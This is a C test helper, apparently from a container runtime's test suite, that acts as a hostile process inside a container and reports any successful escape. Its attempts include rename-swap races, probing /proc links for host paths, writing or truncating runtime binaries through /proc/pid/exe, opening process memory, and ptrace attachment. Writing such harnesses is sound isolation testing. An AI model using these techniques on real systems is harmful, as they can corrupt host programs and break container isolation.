/* The attempts of a hostile program in a container. Each attack runs until it is killed or succeeds; each success is
 * a line on standard output that starts with "GOT ". "ready" comes first, when the attack continues. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void ready(void) {
    puts("ready");
    fflush(stdout);
}

/* swap A B ...: exchanges the two names of each pair, one pair after the other, over and over. */
static _Noreturn void swap(char **names, int pairs) {
    ready();
    for (;;)
        for (int i = 0; i < pairs; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, names[2 * i], AT_FDCWD, names[2 * i + 1], 2) != 0) perror("swap"), usleep(1000);
}

/* Whether it is a thing of the host: the marker is a name that only the host's paths have. */
static void judge(const char *path, const char *marker) {
    char target[4096];
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) return;
    target[length] = 0;
    if (strstr(target, marker)) {
        printf("GOT link %s -> %s\n", path, target);
        fflush(stdout);
    }
    struct stat status;
    if (stat(path, &status) == 0 && S_ISDIR(status.st_mode)) {
        const char *places[] = {"%s/%s", "%s/tmp/%s", "%s/../%s"};
        for (int i = 0; i < 3; i++) {
            char below[4200];
            snprintf(below, sizeof below, places[i], path, marker);
            if (access(below, F_OK) == 0) {
                printf("GOT directory %s -> %s\n", path, target);
                fflush(stdout);
            }
        }
    }
}

/* The name of a process that still is Tare's, in `name`; 0 when it is the container's own by now, or gone. */
static int is_keepers(int pid, char name[64]) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t count = read(fd, name, 63);
    name[count < 0 ? 0 : count] = 0;
    close(fd);
    return strncmp(name, "tare-keeper", 11) == 0;
}

static void judge_descriptors(int pid, const char *marker) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    if (descriptors == NULL) return;
    struct dirent *number;
    while ((number = readdir(descriptors)) != NULL) {
        if (number->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%.20s", pid, number->d_name);
        judge(path, marker);
    }
    closedir(descriptors);
}

static void judge_program(int pid) {
    char path[64];
    char target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0) return;
    target[length] = 0;
    if (strstr(target, "memfd:") == NULL && strstr(target, "tare") == NULL) return;
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) return;
    if (write(fd, "x", 1) == 1) {
        printf("GOT written program %s\n", target);
        fflush(stdout);
    }
    close(fd);
}

static void judge_memory(int pid) {
    char path[64];
    char name[64];
    char again[64];
    if (!is_keepers(pid, name)) return;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) return;
    if (is_keepers(pid, again)) {
        printf("GOT memory of %s", name);
        fflush(stdout);
    }
    close(fd);
}

/* The pid of the next process that is neither the first nor this one; 0 at the end. */
static int next_process(DIR *all) {
    struct dirent *entry;
    while ((entry = readdir(all)) != NULL) {
        int pid = atoi(entry->d_name);
        if (pid > 1 && pid != getpid()) return pid;
    }
    return 0;
}

/* grab MARKER: looks at all that /proc shows of each process that comes, and tries to write its program and its
 * memory. */
static _Noreturn void grab(const char *marker) {
    ready();
    for (;;) {
        DIR *all = opendir("/proc");
        for (int pid; (pid = next_process(all)) != 0;) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/cwd", pid);
            judge(path, marker);
            snprintf(path, sizeof path, "/proc/%d/root", pid);
            judge(path, marker);
            judge_descriptors(pid, marker);
            judge_program(pid);
            judge_memory(pid);
        }
        closedir(all);
    }
}

/* trace: attaches to each new process, and reports those that are not yet the container's own program. */
static _Noreturn void trace(void) {
    ready();
    for (;;) {
        DIR *all = opendir("/proc");
        for (int pid; (pid = next_process(all)) != 0;) {
            char name[64];
            if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) continue;
            waitpid(pid, NULL, __WALL);
            if (is_keepers(pid, name)) {
                printf("GOT trace of %s", name);
                fflush(stdout);
            }
            ptrace(PTRACE_DETACH, pid, 0, 0);
            kill(pid, SIGCONT); /* the stop of the attachment may still be on its way */
        }
        closedir(all);
    }
}

/* overwrite PATH: the program that a link of /proc shows, also when it no longer runs; "tried" at the end. */
static int overwrite(const char *path) {
    int source = open(path, O_PATH | O_CLOEXEC);
    if (source < 0) return perror(path), 1;
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", source);
    ready();
    for (int i = 0; i < 500; i++) {
        int fd = open(again, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            if (write(fd, "x", 1) == 1 || ftruncate(fd, 0) == 0) puts("GOT written");
            break;
        }
        usleep(1000);
    }
    puts("tried");
    return 0;
}

int main(int count, char **args) {
    if (count >= 4 && count % 2 == 0 && strcmp(args[1], "swap") == 0) swap(args + 2, count / 2 - 1);
    if (count == 3 && strcmp(args[1], "grab") == 0) grab(args[2]);
    if (count == 2 && strcmp(args[1], "trace") == 0) trace();
    if (count == 3 && strcmp(args[1], "overwrite") == 0) return overwrite(args[2]);
    fputs("usage: attacker swap A B ... | grab MARKER | trace | overwrite PATH\n", stderr);
    return 2;
}
